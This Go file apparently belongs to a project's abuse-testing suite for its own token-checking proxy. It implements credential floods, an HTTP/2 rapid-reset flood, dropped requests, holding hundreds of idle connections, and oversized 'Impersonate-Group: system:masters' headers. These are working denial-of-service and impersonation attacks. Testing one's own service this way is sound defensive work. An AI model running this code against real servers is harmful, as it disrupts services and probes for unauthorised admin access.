/*
Copyright 2026 The pat-operator Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package abuse

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// idleConnections is how many the attack of this name holds.
const idleConnections = 400

// OfProxy are further attacks, on a server that takes a credential with each request. Target.Bearer is a token that the attacker has.
func OfProxy() []Attack {
	return []Attack{
		{Name: "bad credentials", Unit: "requests", Run: badCredentials},
		{Name: "rapid reset, with a token", Unit: "streams", Run: rapidResetWithToken},
		{Name: "cut off, with a token", Unit: "requests", Run: cutOff},
		{Name: "idle connections, HTTP/2", Unit: "connections", Holds: true, Run: idle},
		{Name: "huge Impersonate headers", Unit: "requests", Run: hugeImpersonation},
	}
}

// Neighbor returns a client of the network that bad credentials come from, which comes with a new connection each time.
func Neighbor(t Target) *http.Client {
	transport := t.transport("http/1.1")
	transport.DisableKeepAlives = true
	return &http.Client{Transport: transport, Timeout: deadline}
}

// get is a request with a credential, without the end of its headers.
func (t Target) get(bearer string) string {
	return fmt.Sprintf("GET %s HTTP/1.1\r\nHost: pat-operator\r\nAuthorization: Bearer %s\r\n", t.path(), bearer)
}

// badCredentials come from the network of clients with valid ones. What the server closes is opened again.
func badCredentials(ctx context.Context, t Target, done *Done) {
	t.Sources = 0
	t.workers(ctx, 8, func(ctx context.Context) error {
		conn, closeConn, err := t.open(ctx, "http/1.1")
		if err != nil {
			return err
		}
		defer closeConn()
		bearer := unknown()
		if done.Count.Add(1)%2 == 0 {
			bearer = garbage()
		}
		if _, err := io.WriteString(conn, t.get(bearer)+"\r\n"); err != nil {
			return nil
		}
		answer, _ := io.ReadAll(conn)
		if bytes.Contains(answer, []byte("HTTP/1.1 200")) {
			done.Accepted.Add(1)
		}
		return nil
	})
}

// rapidResetWithToken takes back requests that the server has begun to pass on.
func rapidResetWithToken(ctx context.Context, t Target, done *Done) {
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range [][2]string{
		{":method", "GET"}, {":scheme", "https"}, {":authority", "pat-operator"}, {":path", t.path()}, {"authorization", "Bearer " + t.Bearer},
	} {
		_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
	}
	t.flood(ctx, func(c *h2) error {
		c.headers = block.Bytes()
		id, err := c.open(true, true)
		if err != nil {
			return err
		}
		done.Count.Add(1)
		return c.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// cutOff asks with a valid token, and leaves before the answer.
func cutOff(ctx context.Context, t Target, done *Done) {
	t.workers(ctx, 8, func(ctx context.Context) error {
		conn, closeConn, err := t.open(ctx, "http/1.1")
		if err != nil {
			return err
		}
		defer closeConn()
		_, _ = io.WriteString(conn, t.get(t.Bearer)+"\r\n")
		done.Count.Add(1)
		return nil
	})
}

// idle holds connections of HTTP/2 on which nothing is asked.
func idle(ctx context.Context, t Target, done *Done) {
	t.hold(ctx, idleConnections, done, func(ctx context.Context) (net.Conn, func(), error) {
		conn, closeConn, err := t.open(ctx, "h2")
		if err != nil {
			return nil, nil, err
		}
		_, _ = io.WriteString(conn, http2.ClientPreface)
		_ = http2.NewFramer(conn, conn).WriteSettings()
		return conn, closeConn, nil
	}, nil)
}

// hugeImpersonation names as many groups as headers hold.
func hugeImpersonation(ctx context.Context, t Target, done *Done) {
	headers := strings.Repeat("Impersonate-Group: system:masters\r\n", (60<<10)/len("Impersonate-Group: system:masters\r\n"))
	t.workers(ctx, 4, func(ctx context.Context) error {
		conn, closeConn, err := t.open(ctx, "http/1.1")
		if err != nil {
			return err
		}
		defer closeConn()
		done.Count.Add(1)
		if _, err := io.WriteString(conn, t.get(t.Bearer)+"Impersonate-User: admin\r\n"+headers+"\r\n"); err != nil {
			return nil
		}
		answer, _ := io.ReadAll(conn)
		if bytes.Contains(answer, []byte("HTTP/1.1 200")) {
			done.Accepted.Add(1)
		}
		return nil
	})
}
